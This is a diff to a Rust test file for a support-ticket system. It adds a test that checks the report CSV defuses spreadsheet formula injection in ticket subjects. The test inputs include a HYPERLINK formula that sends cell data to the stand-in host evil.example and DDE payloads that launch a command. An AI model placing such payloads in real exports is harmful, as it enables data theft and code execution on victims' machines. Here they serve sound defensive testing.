@@ -7,6 +7,7 @@
 //!    spelling used to slip past;
 //! 2. bidi / zero-width characters in attachment names;
 //! 3. terminal control and bidi characters in the CLI's text output;
+//! 4. CSV formula injection in the report CSV.
 
 mod common;
 
@@ -15,6 +16,7 @@ use std::process::{Command, Output};
 use std::time::{Duration, Instant};
 
 use common::{Env, mail};
+use supportd::reports::{self, Period};
 
 const KUNDE: &str = "Max Keller <m.keller@stadtwerke-musterstadt.de>";
 const ANNA: &str = "Anna Berg <anna@roewaplan.de>";
@@ -344,4 +346,82 @@ fn control_and_bidi_characters_from_mail_are_escaped_in_cli_output() {
     // The values are the stored ones, escapes and all.
     assert!(values.iter().any(|v| v["subject"].as_str().is_some_and(|s| s.ends_with(" \u{202E}gepj.exe"))));
     assert!(values.iter().any(|v| v["reason"].as_str().is_some_and(|s| s.contains(evil))), "{values:?}");
+}
+
+// ---------------------------------------------------------------------------
+// 4. CSV formula injection
+
+/// The cells of an RFC 4180 CSV text (quoted cells, doubled quotes, CRLF).
+fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {}
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    rows
+}
+
+/// Proves: ticket subjects that a spreadsheet would run as a formula
+/// (`=`, `+`, `-`, `@` first) reach the report CSV as text: the cell is
+/// quoted and starts with `'`, the rest unchanged; an ordinary subject and
+/// our own numeric columns (level, support minutes, escalations) are left
+/// as they were.
+#[test]
+fn formula_subjects_are_defused_in_the_report_csv() {
+    let mut env = Env::new();
+    let at = common::tuesday_morning();
+    let subjects = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "Normale Frage, mit Komma",
+    ];
+    for (i, s) in subjects.iter().enumerate() {
+        let o = env.ingest_at(&mail(KUNDE, s, &format!("f{i}@sw"), "", "Bitte prüfen."), at);
+        assert_eq!(o.disposition.as_str(), "new_ticket", "{s}");
+    }
+    let c = env.p.cfg.customer_by_name("Stadtwerke Musterstadt").unwrap();
+    let end = chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, 2026, 12, 1, 7, 0, 0).unwrap();
+    let r = reports::compute(&env.p, env.store.conn(), c, &Period::parse("2026-11").unwrap(), end).unwrap();
+    let csv = reports::to_csv(&r);
+    let rows = csv_cells(&csv);
+    assert_eq!(rows[0][1], "subject");
+    let body = &rows[1..];
+    assert_eq!(body.len(), subjects.len(), "{csv}");
+    for s in &subjects {
+        let row = body.iter().find(|r| r[1].ends_with(s)).unwrap_or_else(|| panic!("{s} not in\n{csv}"));
+        if s.starts_with(['=', '+', '-', '@']) {
+            assert_eq!(row[1], format!("'{s}"), "{csv}");
+            assert!(csv.contains(&format!("\"'{}\"", s.replace('"', "\"\""))), "cell quoted:\n{csv}");
+        } else {
+            assert_eq!(row[1], *s);
+        }
+        // Our numbers stay numbers: level, minutes (empty or digits), escalations.
+        assert!(row[3].parse::<u8>().is_ok(), "{row:?}");
+        assert!(row[10].chars().all(|c| c.is_ascii_digit()), "{row:?}");
+        assert_eq!(row[12], "0", "{row:?}");
+        // No cell of the CSV starts a formula.
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {row:?}");
+        }
+    }
 }
